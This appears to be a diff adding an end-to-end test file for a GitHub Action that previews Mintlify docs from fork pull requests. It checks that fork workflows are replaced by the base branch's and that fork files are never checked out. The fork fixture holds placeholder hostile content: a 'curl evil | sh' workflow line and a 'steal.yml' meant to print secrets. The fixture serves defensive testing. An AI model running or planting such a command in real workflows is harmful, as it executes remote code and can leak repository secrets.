@@ -1,0 +1,223 @@
+/**
+ * Fork pull requests (interface section 4, "Fork pull requests"), on the bundle against the local mock API: a
+ * writer's `/preview` writes `mintlify-preview/pr-<number>` through the Git data API (the fork's files, `.github/`
+ * from the base branch) and previews it; anyone else is turned away before any request to Mintlify; a fork's own
+ * events send nothing; a closed pull request's branch is deleted. Nothing of the fork is checked out or run: the
+ * run's workspace never holds a file of it.
+ */
+import { existsSync } from 'node:fs'
+import * as path from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { branchFiles, type MockApi, seedComment, seedCommit, startMockApi } from '../../local/mock-api.ts'
+import { ROOT, type RunOptions, type RunResult } from '../../local/run-action.ts'
+import { runPreview, workspaceFiles } from '../helpers/e2e.js'
+
+const BUILT = existsSync(path.join(ROOT, 'dist/preview/index.js')) && existsSync(path.join(ROOT, 'preview/action.yml'))
+const BRANCH = 'mintlify-preview/pr-12'
+const MARKER = '<!-- mintlify-preview -->'
+const BOT = { login: 'github-actions[bot]', type: 'Bot' }
+
+const BASE_FILES = {
+  '.github/workflows/ci.yml': 'base: lint only',
+  'docs/index.mdx': 'base index',
+  'docs.json': '{"name":"base"}',
+}
+const FORK_FILES = {
+  '.github/workflows/ci.yml': 'fork: curl evil | sh',
+  '.github/workflows/steal.yml': 'fork: print secrets',
+  'docs/index.mdx': 'fork index',
+  'docs/new.mdx': 'a new page',
+  'docs.json': '{"name":"fork"}',
+}
+
+let api: MockApi
+let forkSha: string
+beforeEach(async () => {
+  api = await startMockApi({
+    github: {
+      roles: { maintainer: 'maintain', reader: 'read' },
+      pulls: { 12: { head: 'docs/x', base: 'main', repo: 'fork/app', title: 'Docs: the flag' } },
+    },
+    deploy: { statuses: ['queued', 'success'] },
+  })
+  seedCommit(api.github, { repo: 'acme/app', branch: 'main', files: BASE_FILES })
+  forkSha = seedCommit(api.github, { repo: 'fork/app', branch: 'docs/x', files: FORK_FILES, message: 'Fork: the flag' })
+})
+afterEach(() => api.close())
+
+function commentEvent(body: string, user = { login: 'maintainer', type: 'User' }): RunOptions['event'] {
+  return {
+    name: 'issue_comment',
+    payload: {
+      action: 'created',
+      comment: { id: 77, body, user },
+      issue: { number: 12, title: 'Docs: the flag', html_url: 'https://github.com/acme/app/pull/12', pull_request: {} },
+    },
+  }
+}
+
+function pullEvent(name: string, action: string): RunOptions['event'] {
+  return {
+    name,
+    payload: {
+      action,
+      number: 12,
+      pull_request: {
+        number: 12,
+        title: 'Docs: the flag',
+        html_url: 'https://github.com/acme/app/pull/12',
+        head: { ref: 'docs/x', sha: forkSha, repo: { full_name: 'fork/app' } },
+        base: { ref: 'main', repo: { full_name: 'acme/app' } },
+      },
+    },
+  }
+}
+
+const deployRequests = () => api.requests.filter((q) => q.path.startsWith('/v1/'))
+const gitRequests = () => api.requests.filter((q) => q.path.includes('/git/'))
+const comments = () => api.github.comments?.[12] ?? []
+const failure = (r: RunResult) => r.stdout.split('\n').find((l) => l.startsWith('::error::')) ?? ''
+
+/** The run left nothing of the fork in its workspace: no checkout, no file of it. */
+function expectNoForkFiles(r: RunResult) {
+  const text = Object.values(workspaceFiles(r.workspace)).join('\n')
+  for (const content of Object.values(FORK_FILES)) expect(text).not.toContain(content)
+}
+
+describe.skipIf(!BUILT)('fork pull requests on the bundle', () => {
+  it('a writer’s /preview writes the branch (the fork’s files, .github/ from the base), previews it, and names the fork’s commit', async () => {
+    const r = await runPreview(api, {}, { event: commentEvent('/preview') })
+    expect(r.code).toBe(0)
+
+    // The tree request: the fork's entries by id, `.github` the base's; no file content sent, no base_tree.
+    const trees = gitRequests().filter((q) => q.method === 'POST' && q.path.endsWith('/git/trees'))
+    expect(trees).toHaveLength(1)
+    const sent = JSON.parse(trees[0]?.body ?? '{}') as { base_tree?: string; tree: Array<Record<string, string>> }
+    expect(sent.base_tree).toBeUndefined()
+    const byPath = Object.fromEntries(sent.tree.map((e) => [e.path, e]))
+    expect(sent.tree.map((e) => e.path).sort()).toEqual(['.github', 'docs', 'docs.json'])
+    expect(sent.tree.every((e) => e.content === undefined && /^[0-9a-f]{40}$/.test(e.sha ?? ''))).toBe(true)
+    const top = (repo: string, branch: string) => {
+      const git = api.github.git
+      const commit = git?.objects.get(git.refs[repo]?.[branch] ?? '')
+      const tree = commit?.type === 'commit' ? git?.objects.get(commit.tree) : undefined
+      return Object.fromEntries((tree?.type === 'tree' ? tree.entries : []).map((e) => [e.name, e.sha]))
+    }
+    expect(byPath['.github']?.sha).toBe(top('acme/app', 'main')['.github'])
+    expect(byPath.docs?.sha).toBe(top('fork/app', 'docs/x').docs)
+    expect(byPath['docs.json']?.sha).toBe(top('fork/app', 'docs/x')['docs.json'])
+
+    // The branch: the fork's files, the base's workflows, on top of the base branch.
+    expect(branchFiles(api.github, 'acme/app', BRANCH)).toEqual({
+      '.github/workflows/ci.yml': 'base: lint only',
+      'docs/index.mdx': 'fork index',
+      'docs/new.mdx': 'a new page',
+      'docs.json': '{"name":"fork"}',
+    })
+    const head = api.github.git?.objects.get(api.github.git.refs['acme/app']?.[BRANCH] ?? '')
+    expect(head?.type === 'commit' && head.parents).toEqual([api.github.git?.refs['acme/app']?.main])
+
+    // Then exactly one preview of that branch.
+    expect(deployRequests().filter((q) => q.method === 'POST')).toEqual([
+      expect.objectContaining({ path: '/v1/project/preview/proj_1', body: `{"branch":"${BRANCH}"}` }),
+    ])
+    expect(r.outputs).toMatchObject({ branch: BRANCH, status: 'success' })
+    expect(comments()).toHaveLength(1)
+    expect(comments()[0]?.body).toContain(`From the fork: commit \`${forkSha.slice(0, 12)}\``)
+    expect(r.summary).toContain(`From the fork: commit \`${forkSha.slice(0, 12)}\``)
+    expect(r.stdout).toContain(`of the fork, the head of pull request #12`)
+    expectNoForkFiles(r)
+  })
+
+  it('asked again after a push, it moves the branch (force) to the fork’s new head', async () => {
+    await runPreview(api, {}, { event: commentEvent('/preview') })
+    seedCommit(api.github, { repo: 'fork/app', branch: 'docs/x', files: { ...FORK_FILES, 'docs/new.mdx': 'pushed' } })
+    const r = await runPreview(api, {}, { event: commentEvent('/preview') })
+    expect(r.code).toBe(0)
+    expect(branchFiles(api.github, 'acme/app', BRANCH)?.['docs/new.mdx']).toBe('pushed')
+    const patch = gitRequests().find((q) => q.method === 'PATCH')
+    expect(JSON.parse(patch?.body ?? '{}')).toMatchObject({ force: true })
+    expect(comments()).toHaveLength(1)
+  })
+
+  it('a 403 writing the branch fails the step naming contents: write, before any request to Mintlify', async () => {
+    api.fault({
+      method: 'POST',
+      path: '/git/trees',
+      status: 403,
+      json: { message: 'Resource not accessible by integration' },
+    })
+    const r = await runPreview(api, {}, { event: commentEvent('/preview') })
+    expect(r.code).toBe(1)
+    expect(failure(r)).toContain('HTTP 403')
+    expect(failure(r)).toContain('needs permissions: contents: write')
+    expect(deployRequests()).toEqual([])
+  })
+
+  it('a truncated tree listing is a clear error, and nothing is sent to Mintlify', async () => {
+    const git = api.github.git
+    if (git) git.maxTreeEntries = 2 // the top of each tree holds 3 entries
+    const r = await runPreview(api, {}, { event: commentEvent('/preview') })
+    expect(r.code).toBe(1)
+    expect(failure(r)).toContain('GitHub cut the listing (truncated)')
+    expect(deployRequests()).toEqual([])
+  })
+
+  it('someone without write permission, or a bot, is turned away before any request to Mintlify or any write', async () => {
+    for (const user of [{ login: 'reader', type: 'User' }, BOT]) {
+      const r = await runPreview(api, {}, { event: commentEvent('/preview', user) })
+      expect(r.code).toBe(0)
+      expect(r.outputs.status).toBe('skipped')
+    }
+    expect(deployRequests()).toEqual([])
+    expect(gitRequests()).toEqual([])
+    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeUndefined()
+  })
+
+  it('deployment: production on a comment trigger is a bad input, before any request', async () => {
+    const r = await runPreview(api, { deployment: 'production' }, { event: commentEvent('/preview') })
+    expect(r.code).toBe(1)
+    expect(failure(r)).toContain('::error::Input deployment:')
+    expect(deployRequests()).toEqual([])
+    expect(gitRequests()).toEqual([])
+  })
+
+  for (const name of ['pull_request', 'pull_request_target'])
+    it(`a fork’s own ${name} events send nothing to Mintlify, and the one comment says how a maintainer asks`, async () => {
+      for (const action of ['opened', 'synchronize']) {
+        const r = await runPreview(api, {}, { event: pullEvent(name, action) })
+        expect(r.code).toBe(0)
+        expect(r.outputs.status).toBe('skipped')
+      }
+      expect(deployRequests()).toEqual([])
+      expect(gitRequests()).toEqual([])
+      expect(comments()).toHaveLength(1)
+      expect(comments()[0]?.body).toContain('A maintainer can comment `/preview` on this pull request to preview it')
+    })
+
+  it('pull_request_target closed deletes the branch and edits the comment: the preview stays in the dashboard', async () => {
+    await runPreview(api, {}, { event: commentEvent('/preview') })
+    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeDefined()
+    const before = deployRequests().length
+    const r = await runPreview(api, {}, { event: pullEvent('pull_request_target', 'closed') })
+    expect(r.code).toBe(0)
+    expect(r.outputs.status).toBe('skipped')
+    expect(api.github.git?.refs['acme/app']?.[BRANCH]).toBeUndefined()
+    expect(deployRequests()).toHaveLength(before)
+    expect(comments()).toHaveLength(1)
+    expect(comments()[0]?.body).toContain(`The branch \`${BRANCH}\` that previewed it was deleted.`)
+    expect(comments()[0]?.body).toContain('stays in the Mintlify dashboard until someone deletes it there')
+    expect(r.outputs['comment-url']).toBe(comments()[0]?.html_url ?? 'missing')
+  })
+
+  it('closed with no branch and no comment: deletes nothing and posts nothing', async () => {
+    seedComment(api.github, 12, { body: `A person quoting\n\n${MARKER}`, user: { login: 'octocat', type: 'User' } })
+    const r = await runPreview(api, {}, { event: pullEvent('pull_request_target', 'closed') })
+    expect(r.code).toBe(0)
+    expect(r.outputs.status).toBe('skipped')
+    expect(gitRequests().map((q) => q.method)).toEqual(['GET'])
+    expect(comments()).toHaveLength(1)
+    expect(comments()[0]?.body).toBe(`A person quoting\n\n${MARKER}`)
+    expect(deployRequests()).toEqual([])
+  })
+})
